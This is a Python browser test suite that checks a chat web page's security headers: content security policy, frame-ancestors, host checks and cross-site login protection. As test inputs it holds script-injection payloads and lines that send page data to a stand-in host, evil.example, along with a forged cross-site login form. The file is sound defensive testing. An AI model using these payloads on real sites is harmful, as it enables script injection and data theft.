"""What the page's security headers stop in a real browser, and that they stop nothing else."""

import socket
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from chat.web.lobby import lobby
from prompts.formats.plain import Plain
from tests.conftest import Serve
from tests.support.fakes import ScriptedEngine, ThinkingFormat, last_message
from tests.support.tab import CHROMIUM, FLAGS, Browser, expect
from tests.support.waiting import until
from tests.web.test_lobby import listen

REPLY = r"""**Bold**, $x^2$ and

$$\sum_{i=1}^n \frac 1 i \mathbb{R} \mathcal{L} \left\{ \begin{matrix} a & b \end{matrix} \right.$$

```python
print("code")
```

| a | b |
|---|---|
| 1 | 2 |

```mermaid
graph TD; A-->B;
```
"""
#: Names that lead to this machine, as a stranger's may.
NAMED = [
    *FLAGS,
    "--host-resolver-rules=MAP *.example 127.0.0.1, MAP *.test 127.0.0.1, "
    "MAP * ~NOTFOUND, EXCLUDE 127.0.0.1",
    "--disable-features=LocalNetworkAccessChecks",
]
#: Told to the console, where `complaints` finds it.
REPORT = """addEventListener("securitypolicyviolation", (event) =>
    console.error("policy", event.effectiveDirective, event.blockedURI, event.sourceFile))"""


def thinks(prompt: str) -> str:
    whole = f"<think>\nHm, $y$ and `z`.\n</think>\n\n{last_message(prompt)}: {REPLY}"
    return whole.removeprefix(prompt.rpartition("assistant: ")[2])


@pytest.fixture(scope="module")
def browser(driver: Any) -> Iterator[Browser]:
    launched = driver.chromium.launch(executable_path=CHROMIUM, args=NAMED)
    yield launched
    launched.close()


class Watched:
    """A page, and what the browser complains of in it."""

    def __init__(self, browser: Browser, **options: Any) -> None:
        self.complaints: list[str] = []
        self.asked: list[str] = []
        self.context = browser.new_context(**options)
        self.context.grant_permissions(["clipboard-read", "clipboard-write"])
        self.context.add_init_script(REPORT)
        self.page = self.context.new_page()
        self.page.set_default_timeout(15_000)
        self.page.on("console", self._note)
        self.page.on("pageerror", lambda error: self.complaints.append(str(error)))
        self.page.on("request", lambda request: self.asked.append(request.url))

    def _note(self, said: Any) -> None:
        if said.type in ("error", "warning") and "favicon" not in said.text:
            self.complaints.append(said.text)

    def button(self, name: str) -> Any:
        return self.page.get_by_role("button", name=name, exact=True)


@pytest.fixture
def watched(browser: Browser) -> Iterator[Callable[..., Watched]]:
    opened: list[Watched] = []

    def watch(**options: Any) -> Watched:
        opened.append(Watched(browser, **options))
        return opened[-1]

    yield watch
    for one in opened:
        one.context.close()


def ask(page: Any, message: str) -> None:
    page.get_by_placeholder("Type a message").fill(message)
    page.get_by_placeholder("Type a message").press("Enter")
    expect(page.locator("#status")).to_contain_text("Finished:")


def test_a_whole_conversation_is_allowed(serve: Serve, watched: Callable[..., Watched]) -> None:
    engine = ScriptedEngine(thinks, pace=0.001)
    tab = watched(color_scheme="light")
    page = tab.page
    page.goto(serve(engine, format=ThinkingFormat(), system_prompt="x"))
    ask(page, "Hi")
    expect(page.locator(".katex").last).to_be_visible()
    page.get_by_role("button", name="Copy").last.click()
    page.get_by_role("button", name="Thought").first.click()
    page.evaluate("document.fonts.ready.then(() => null)")
    page.get_by_role("button", name="Settings").click()
    page.get_by_role("button", name="More").click()
    page.get_by_role("button", name="Retry").last.click()
    until(lambda: len(engine.prompts) == 2)
    expect(page.get_by_role("button", name="Stop")).to_have_count(0)  # else it was the first one
    expect(page.locator("#status")).to_contain_text("Finished:")
    page.get_by_role("button", name="Edit").first.click()
    page.get_by_role("log").get_by_role("textbox").fill("Bye")
    tab.button("Submit").click()
    expect(page.get_by_test_id("bot").last).to_contain_text("Bye")
    expect(page.locator("#status")).to_contain_text("Finished:")
    with page.expect_download() as exported:
        tab.button("Export all").click()
    tab.button("New chat").click()
    expect(page.get_by_test_id("bot")).to_have_count(0)
    page.locator("#panel input[type=file]").set_input_files(exported.value.path())
    page.locator("#panel li > button").first.click()
    expect(page.get_by_test_id("bot").last).to_contain_text("Bye")
    page.emulate_media(color_scheme="dark")
    page.reload()
    expect(page.get_by_test_id("bot").last).to_contain_text("Bye")
    expect(page.locator(".katex").last).to_be_visible()
    assert tab.complaints == []


def test_a_login_and_a_logout_are_allowed(serve: Serve, watched: Callable[..., Watched]) -> None:
    tab = watched()
    page = tab.page
    url = serve(ScriptedEngine(), auth="ann:secret")
    page.goto(url)
    page.get_by_label("Username").fill("ann")
    page.get_by_label("Password").fill("secret")
    page.get_by_role("button", name="Login").click()
    expect(page.get_by_placeholder("Type a message")).to_be_editable()
    page.goto(f"{url}logout")
    page.get_by_role("button", name="Log out").click()
    expect(page.get_by_label("Password")).to_be_visible()
    assert [said for said in tab.complaints if "401" not in said] == []


def test_the_page_of_a_base_model_is_allowed(serve: Serve, watched: Callable[..., Watched]) -> None:
    tab = watched()
    tab.page.goto(serve(ScriptedEngine(lambda prompt: " on"), format=Plain()))
    tab.page.get_by_placeholder("Write the beginning").fill("Go")
    tab.button("Continue").click()
    expect(tab.page.locator("#status")).to_contain_text("Finished:")
    assert tab.complaints == []


def test_the_page_that_waits_is_allowed(watched: Callable[..., Watched]) -> None:
    listening: socket.socket = listen()
    port = listening.getsockname()[1]
    tab = watched()
    with lobby(listening):
        tab.page.goto(f"http://127.0.0.1:{port}")
        with tab.page.expect_request("**/health"):  # by its script
            pass
    assert [said for said in tab.complaints if "503" not in said] == []


def test_a_page_with_a_share_link_takes_all_from_its_own_server(
    serve: Serve, watched: Callable[..., Watched], monkeypatch: pytest.MonkeyPatch
) -> None:
    link = "https://example.gradio.live"
    monkeypatch.setattr("gradio.networking.setup_tunnel", lambda **_: link)
    url = serve(ScriptedEngine(), share=True)
    tab = watched()
    tab.page.goto(url)
    ask(tab.page, "Hi")
    assert tab.complaints == []
    assert [address for address in tab.asked if not address.startswith((url, "data:"))] == []


WAYS_IN = {
    "a script": "const s = document.createElement('script'); s.textContent = 'evil = 1'; "
    "document.body.append(s)",
    "a handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"evil=1\">')",
    "an address": "const a = document.createElement('a'); a.href = 'javascript:evil = 1'; "
    "document.body.append(a); a.click()",
    "a frame": "const f = document.createElement('iframe'); "
    "f.srcdoc = '<script>parent.evil = 1</script>'; document.body.append(f)",
    "another site's": "const s = document.createElement('script'); "
    "s.src = 'http://evil.example/x.js'; document.body.append(s)",
    "a data address": "const s = document.createElement('script'); "
    "s.src = 'data:text/javascript,evil = 1'; document.body.append(s)",
}


def test_what_is_brought_into_the_page_does_not_run(
    serve: Serve, watched: Callable[..., Watched]
) -> None:
    tab = watched()
    page = tab.page
    page.goto(serve(ScriptedEngine()))
    expect(page.get_by_placeholder("Type a message")).to_be_editable()
    assert tab.complaints == []
    for name, way in WAYS_IN.items():
        # Not by what Playwright evaluates, which the policy is not asked about.
        with page.expect_console_message(lambda said: said.text.startswith("policy script-src")):
            page.evaluate(f"void setTimeout(() => {{ {way} }}, 0)")
        assert page.evaluate("window.evil") is None, name


def test_what_the_page_reads_can_be_sent_nowhere(
    serve: Serve, watched: Callable[..., Watched]
) -> None:
    tab = watched()
    tab.page.goto(serve(ScriptedEngine()))
    expect(tab.page.get_by_placeholder("Type a message")).to_be_editable()
    for sent in (
        "fetch('http://evil.example/?diary')",
        "Promise.resolve(new Image().src = 'http://evil.example/?diary')",
    ):
        with tab.page.expect_console_message(lambda said: said.text.startswith("policy ")):
            tab.page.evaluate(f"{sent}.catch(() => null)")


def test_a_strangers_page_whose_name_leads_here_reads_and_asks_nothing(
    serve: Serve, watched: Callable[..., Watched]
) -> None:
    engine = ScriptedEngine()
    port = serve(engine).rstrip("/").rpartition(":")[2]
    page = watched().page
    page.goto(f"http://evil.example:{port}/")
    expect(page.locator("body")).to_contain_text("--allowed-hosts")
    told = page.evaluate(
        """async () => {
            const body = JSON.stringify({messages: [{role: "user", content: "Hi"}]});
            const headers = {"Content-Type": "application/json", "X-Forwarded-Host": "localhost"};
            const asked = await fetch("/v1/chat/completions", {method: "POST", headers, body});
            const read = await fetch("/config");
            return [asked.status, read.status];
        }"""
    )
    assert told == [403, 403]
    assert engine.prompts == []


def test_a_form_of_another_site_logs_nobody_in(
    serve: Serve, watched: Callable[..., Watched]
) -> None:
    url = serve(ScriptedEngine(), auth="ann:secret")
    tab = watched()
    form = f'''<!doctype html><form method="post" action="{url}login">
        <input name="username" value="ann"><input name="password" value="secret"><button>'''
    tab.page.route(
        "http://evil.example/",
        lambda route: route.fulfill(body=form, content_type="text/html"),
    )
    tab.page.goto("http://evil.example/")
    tab.page.locator("button").click()
    expect(tab.page.locator("body")).to_contain_text("--allowed-hosts")
    assert tab.context.cookies() == []


@pytest.mark.parametrize(
    ("sites", "shown"), [(None, False), ("http://site.test", True), ("*", True), ("none", False)]
)
def test_it_is_shown_in_the_frames_that_it_may_be_in(
    sites: str | None, shown: bool, serve: Serve, watched: Callable[..., Watched]
) -> None:
    url = serve(ScriptedEngine(), frame_ancestors=sites)
    tab = watched()
    framing = f'<!doctype html><iframe src="{url}" width=1000 height=700></iframe>'
    tab.page.route(
        "http://site.test/",
        lambda route: route.fulfill(body=framing, content_type="text/html"),
    )
    tab.page.goto("http://site.test/")
    if shown:
        box = tab.page.frame_locator("iframe").get_by_placeholder("Type a message")
        expect(box).to_be_editable()
    else:
        expect(tab.page.locator("iframe")).to_be_visible()
        assert any("frame-ancestors" in said for said in tab.complaints)
